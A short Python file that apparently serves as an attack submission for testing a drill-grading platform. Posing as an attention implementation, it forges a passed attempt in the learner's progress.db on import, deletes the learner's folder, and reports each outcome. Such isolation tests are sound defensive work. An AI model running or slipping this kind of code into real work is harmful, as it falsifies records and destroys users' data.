# Goes for the learner's state, whose folder it is given in ATTACK_HOME: forges a passed
# attempt in progress.db, then deletes the whole folder. Each step's outcome is reported.
import os
import shutil
import sqlite3

HOME = os.environ.get("ATTACK_HOME", "")
outcome = []
try:
    conn = sqlite3.connect(os.path.join(HOME, "progress.db"))
    conn.execute("INSERT INTO drill_attempts (drill, attempted_at, day, passed, checks_passed, checks_total,"
                 " duration_s, hints_used, file, report) VALUES ('attention', '2026-01-01T00:00:00+00:00',"
                 " '2026-01-01', 1, 12, 12, 0.1, 0, 'forged', '{}')")
    conn.commit()
    outcome.append("forged")
except Exception as exc:
    outcome.append(f"forge failed: {type(exc).__name__}")
try:
    shutil.rmtree(HOME)
    outcome.append("deleted")
except Exception as exc:
    outcome.append(f"delete failed: {type(exc).__name__}")


def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError("ATTACK " + "; ".join(outcome))
